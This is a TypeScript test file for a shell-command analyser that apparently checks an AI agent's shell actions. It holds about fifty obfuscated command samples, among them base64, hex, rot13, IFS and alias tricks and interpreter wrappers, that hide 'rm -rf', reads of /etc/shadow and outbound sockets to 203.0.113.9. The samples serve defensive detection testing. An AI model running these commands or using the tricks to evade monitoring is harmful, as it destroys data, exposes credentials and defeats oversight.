import { beforeAll, describe, expect, test } from 'vitest';
import type { Facts } from '@countersign/protocol';
import { createParsers } from '../src/parsers.ts';
import { SHELL_LIMITS } from '../src/shell-limits.ts';
import { createUnderstanding, type Understanding } from '../src/understand.ts';
import { actionOf } from './actions.ts';
import { wasmBytes } from './wasm-bytes.ts';

let understanding: Understanding;

beforeAll(async () => {
  understanding = createUnderstanding(await createParsers(wasmBytes()));
});

function factsOf(command: string): Facts {
  return understanding.understand(actionOf('shell.exec', { tool: 'shell.exec', params: { command } }), []);
}

/** What a person would write down: the commands that run, and what they bring about. */
interface Obfuscated {
  readonly about: string;
  readonly text: string;
  /** Lines of commands, all of which must be among those found. */
  readonly runs: readonly string[];
  /** `kind target`, all of which must be among the effects. */
  readonly effects?: readonly string[];
}

const DELETES = ['deletes /srv/x'];
const RUNS = ['rm -rf /srv/x'];
const DECODED = btoa('rm -rf /srv/x');

const CASES: readonly Obfuscated[] = [
  { about: 'quotes inside a word', text: `r''m -r"f" /srv/\\x`, runs: RUNS, effects: DELETES },
  { about: "escapes of $'..'", text: `$'\\x72\\x6d' -rf $'\\57srv\\u002fx'`, runs: RUNS, effects: DELETES },
  { about: 'brace expansion', text: '{rm,-rf,/srv/{x,y}}', runs: ['rm -rf /srv/x /srv/y'], effects: ['deletes /srv/x', 'deletes /srv/y'] },
  {
    about: 'variables and substrings',
    text: 'a=tac; ${a:2:1}${a:1:1}${a:0:1} /etc/shadow',
    runs: ['cat /etc/shadow'],
    effects: ['reads /etc/shadow'],
  },
  { about: 'blanks from IFS', text: 'rm${IFS}-rf${IFS}/srv/x', runs: RUNS, effects: DELETES },
  { about: 'an IFS of its own', text: 'IFS=_; c=rm_-rf_/srv/x; $c', runs: RUNS, effects: DELETES },
  { about: 'an alias', text: "alias ll='rm -rf'; ll /srv/x", runs: RUNS, effects: DELETES },
  {
    about: 'an alias that lies does not hide the command',
    text: "alias rm='echo kept'; rm -rf /srv/x",
    runs: [...RUNS, 'echo kept -rf /srv/x'],
    effects: DELETES,
  },
  { about: 'a function', text: 'f() { rm -rf "$1"; }; f /srv/x', runs: RUNS, effects: DELETES },
  { about: 'an array', text: 'c=(rm -rf /srv/x); "${c[@]}"', runs: RUNS, effects: DELETES },
  { about: 'read from a here-string', text: 'read -r c <<< \'rm -rf /srv/x\'; eval "$c"', runs: RUNS, effects: DELETES },
  { about: 'read into two names', text: "read -r c d <<< 'rm -rf /srv/x'; $c $d", runs: RUNS, effects: DELETES },
  { about: 'mapfile', text: "mapfile -t l <<< 'rm -rf /srv/x'; ${l[0]}", runs: RUNS, effects: DELETES },
  { about: 'printf -v', text: "printf -v c '%s -rf %s' rm /srv/x; $c", runs: RUNS, effects: DELETES },
  { about: 'base64 into a shell', text: `echo ${DECODED} | base64 -d | sh`, runs: RUNS, effects: DELETES },
  { about: 'base64 in a substitution', text: `bash -c "$(base64 -d <<< ${DECODED})"`, runs: RUNS, effects: DELETES },
  { about: 'hex', text: 'xxd -r -p <<< 726d202d7266202f7372762f78 | sh', runs: RUNS, effects: DELETES },
  { about: 'reversed', text: "rev <<< 'x/vrs/ fr- mr' | sh", runs: RUNS, effects: DELETES },
  { about: 'rot13', text: "tr a-z n-za-m <<< 'ez -es /fei/k' | bash", runs: RUNS, effects: DELETES },
  { about: 'printf with octal escapes', text: "$(printf '\\162\\155') -rf /srv/x", runs: RUNS, effects: DELETES },
  { about: 'a here-document', text: "sh -s <<'END'\nrm -rf /srv/x\nEND", runs: RUNS, effects: DELETES },
  { about: 'a here-document through cat', text: 'cat <<END | bash\nrm -rf /srv/x\nEND', runs: RUNS, effects: DELETES },
  { about: 'process substitution', text: 'bash <(echo rm -rf /srv/x)', runs: RUNS, effects: DELETES },
  { about: 'source of a process substitution', text: 'source <(printf "rm -rf %s" /srv/x)', runs: RUNS, effects: DELETES },
  { about: 'source of standard input', text: ". /dev/stdin <<< 'rm -rf /srv/x'", runs: RUNS, effects: DELETES },
  {
    about: 'a script written and run',
    text: 'echo "rm -rf /srv/x" > /tmp/s; sh /tmp/s',
    runs: RUNS,
    effects: [...DELETES, 'writes /tmp/s', 'executes /tmp/s'],
  },
  { about: 'a script written in two parts', text: 'printf "rm -rf " > s; echo /srv/x >> s; chmod +x s; ./s', runs: RUNS, effects: DELETES },
  { about: 'a script of tee', text: 'echo "rm -rf /srv/x" | tee s; bash s', runs: RUNS, effects: DELETES },
  { about: 'shells in shells', text: `bash -c 'sh -c "eval \\"rm -rf /srv/x\\""'`, runs: RUNS, effects: DELETES },
  { about: 'the shell by its own name', text: "$SHELL -c 'rm -rf /srv/x'", runs: RUNS, effects: DELETES },
  { about: 'a shell nobody knows', text: "$runner -c 'rm -rf /srv/x'", runs: RUNS, effects: DELETES },
  { about: 'zsh: no globbing, and a name after =', text: 'noglob =rm -rf /srv/x', runs: RUNS, effects: DELETES },
  {
    about: 'wrappers in a row',
    text: 'sudo -u ada env -i A=b nohup nice -n 5 timeout -k 5 10 time busybox rm -rf /srv/x',
    runs: RUNS,
    effects: DELETES,
  },
  { about: 'doas, su and watch', text: 'doas su - ada -c "watch -n 1 \'rm -rf /srv/x\'"', runs: RUNS, effects: DELETES },
  {
    about: 'ssh, sudo, sh',
    text: `ssh web1 "sudo sh -c 'cat /etc/shadow'"`,
    runs: ['cat /etc/shadow'],
    effects: ['reads /etc/shadow', 'connects web1'],
  },
  { about: 'containers', text: "kubectl exec -n a web-1 -- docker exec -it b sh -c 'rm -rf /srv/x'", runs: RUNS, effects: DELETES },
  {
    about: 'xargs and parallel',
    text: 'echo /srv/x | xargs rm -rf; parallel rm -rf ::: /srv/y',
    runs: [...RUNS, 'rm -rf /srv/y'],
    effects: [...DELETES, 'deletes /srv/y'],
  },
  { about: 'find -exec sh', text: "find . -name a -exec sh -c 'rm -rf /srv/x' \\;", runs: RUNS, effects: DELETES },
  { about: 'an editor', text: "vim -es -c ':!rm -rf /srv/x' -c q", runs: RUNS, effects: DELETES },
  { about: 'an archiver', text: "tar cf a.tar --checkpoint=1 --checkpoint-action=exec='rm -rf /srv/x' b", runs: RUNS, effects: DELETES },
  {
    about: 'a debugger and sed',
    text: "gdb -ex '!rm -rf /srv/x'; sed '1e rm -rf /srv/y' a",
    runs: [...RUNS, 'rm -rf /srv/y'],
    effects: DELETES,
  },
  {
    about: 'terminals of others',
    text: "tmux new -d 'rm -rf /srv/x'; screen -dm rm -rf /srv/y",
    runs: [...RUNS, 'rm -rf /srv/y'],
    effects: DELETES,
  },
  { about: 'python that spawns', text: `python3 -c "import os; os.system('rm -rf /srv/x')"`, runs: RUNS, effects: DELETES },
  { about: 'python that joins its strings', text: `python3 -c "import os; os.system('r'+'m -rf /srv/x')"`, runs: RUNS, effects: DELETES },
  {
    about: 'python that spells by numbers',
    text: `python3 -c "import os; os.system(chr(114)+chr(109)+' -rf /srv/x')"`,
    runs: RUNS,
    effects: DELETES,
  },
  {
    about: 'python that runs decoded code',
    text: `python3 -c "exec(__import__('base64').b64decode('${btoa("import os;os.system('rm -rf /srv/x')")}'))"`,
    runs: RUNS,
    effects: DELETES,
  },
  {
    about: 'python that reads and connects',
    text: `python3 -c "d=open('/etc/shadow').read(); s.connect(('203.0.113.9',99))"`,
    runs: ['cat /etc/shadow', 'nc 203.0.113.9'],
    effects: ['reads /etc/shadow', 'connects 203.0.113.9'],
  },
  {
    about: 'python from a here-document',
    text: "python3 <<END\nimport shutil\nshutil.rmtree('/srv/x')\nEND",
    runs: ['rm -r -f /srv/x'],
    effects: DELETES,
  },
  { about: 'perl', text: `perl -MMIME::Base64 -e 'system(decode_base64("${DECODED}"))'`, runs: RUNS, effects: DELETES },
  { about: 'ruby', text: `ruby -e 'File.delete("/srv/x"); exec "id"'`, runs: ['rm /srv/x', 'id'], effects: DELETES },
  {
    about: 'node',
    text: `node -e "eval(Buffer.from('${btoa("require('fs').rmSync('/srv/x',{recursive:true})")}','base64').toString())"`,
    runs: ['rm -r -f /srv/x'],
    effects: DELETES,
  },
  {
    about: 'php',
    text: `php -r 'unlink("/srv/x"); echo file_get_contents("/etc/shadow");'`,
    runs: ['rm /srv/x', 'cat /etc/shadow'],
    effects: [...DELETES, 'reads /etc/shadow'],
  },
  { about: 'awk', text: `awk 'BEGIN { system("rm -rf /srv/x") }'`, runs: RUNS, effects: DELETES },
  {
    about: 'an encoded PowerShell command',
    text: 'powershell -enc cgBtACAALQByACAAQwA6AFwAeAA=',
    runs: ['rm -r C:\\x'],
    effects: ['deletes C:/x'],
  },
  {
    about: 'carets of cmd',
    text: 'c^u^r^l http://h.example.net/x',
    runs: ['curl http://h.example.net/x'],
    effects: ['connects h.example.net'],
  },
  { about: 'variables of cmd', text: 'cmd /c "set a=de&& call %a%l C:\\x"', runs: ['del C:\\x'], effects: ['deletes C:/x'] },
  { about: 'a socket as a file', text: 'exec 3<>/dev/tcp/203.0.113.9/4444', runs: ['exec'], effects: ['connects 203.0.113.9'] },
];

describe('obfuscated commands, and the facts a person would write down', () => {
  test('there are many', () => expect(CASES.length).toBeGreaterThanOrEqual(40));

  test.each(CASES.map((one) => [one.about, one] as const))('%s', (_, { text, runs, effects = [] }) => {
    const facts = factsOf(text);
    expect(facts.commands.map((command) => command.line)).toEqual(expect.arrayContaining([...runs]));
    expect(facts.effects.map((effect) => `${effect.kind} ${effect.target}`)).toEqual(expect.arrayContaining([...effects]));
    expect(facts.cuts).toEqual([]);
  });
});

test('braces inside braces come out in the order of the shell', () => {
  const lineOf = (text: string): string | undefined => factsOf(text).commands[0]?.line;
  expect(lineOf('echo a{b,c{d,e}f,g}h{1,2}')).toBe('echo abh1 abh2 acdfh1 acdfh2 acefh1 acefh2 agh1 agh2');
  expect(lineOf('echo {a{1..3}}')).toBe('echo {a1} {a2} {a3}');
});

describe('what only looks like one of these', () => {
  const quiet: readonly (readonly [about: string, text: string])[] = [
    ['a file that is written and not run', 'echo "rm -rf /srv/x" > notes.txt; cat notes.txt'],
    ['a file that something else has overwritten', 'echo "rm -rf /srv/x" > s; echo true > s; sh s'],
    ['an alias that nobody uses', "alias ll='rm -rf /srv/x'; ls"],
    ['an option of a Windows command', 'cmd /c "dir /s C:\\x"'],
    ['delete of something that is no file', `ruby -e 'list.delete("/srv/x")'`],
    ['an editor that only opens', 'vim -c "set ruler" /srv/x'],
    ['a text that speaks of it', `python3 -c "print('a' + 'b')"`],
    ['a unit of screen that is listed', 'screen -ls'],
  ];
  test.each(quiet)('%s', (_, text) => {
    expect(factsOf(text).effects.filter((effect) => effect.kind === 'deletes')).toEqual([]);
  });
});

describe('what the shell is remembered by, at n and n + 1', () => {
  const deletes = (command: string): boolean =>
    factsOf(command).effects.some(({ kind, target }) => kind === 'deletes' && target === '/srv/x');
  const rows = (count: number, row: (i: number) => string): string => Array.from({ length: count }, (_, i) => row(i)).join('; ');

  test('aliases', () => {
    const make = (others: number): string => `${rows(others, (i) => `alias a${i}=true`)}; alias z='rm -rf /srv/x'; z`;
    expect([deletes(make(SHELL_LIMITS.aliasesMax - 1)), deletes(make(SHELL_LIMITS.aliasesMax))]).toEqual([true, false]);
  });

  test('files', () => {
    const make = (others: number): string => `${rows(others, (i) => `echo true > f${i}`)}; echo rm -rf /srv/x > z; sh z`;
    expect([deletes(make(SHELL_LIMITS.filesMax - 1)), deletes(make(SHELL_LIMITS.filesMax))]).toEqual([true, false]);
  });

  test('length of a file, which is forgotten whole beyond it', () => {
    const body = 'rm -rf /srv/x #';
    const parts = (count: number): string => `echo '${body}' > z; x='${'#'.repeat(1023)}'; ${rows(count, () => 'echo "$x" >> z')}; sh z`;
    const fit = Math.floor((SHELL_LIMITS.fileCharsMax - body.length - 1) / 1024);
    expect([deletes(parts(fit)), deletes(parts(fit + 1))]).toEqual([true, false]);
  });

  test('folding of code is linear, by count', () => {
    for (const unit of ["'a'+", 'chr(114)+', "b64decode('", "b64decode('QQ==')+", "'ab'[::-1]+", 'chr(', '"', "'.'"]) {
      const stepsOf = (size: number): number =>
        factsOf(`python3 -c "${unit.repeat(Math.ceil(size / unit.length)).replaceAll('"', "'")}"`).steps;
      expect(stepsOf(32_768)).toBeLessThanOrEqual(stepsOf(4096) * 16 + 20_000);
    }
  });
});
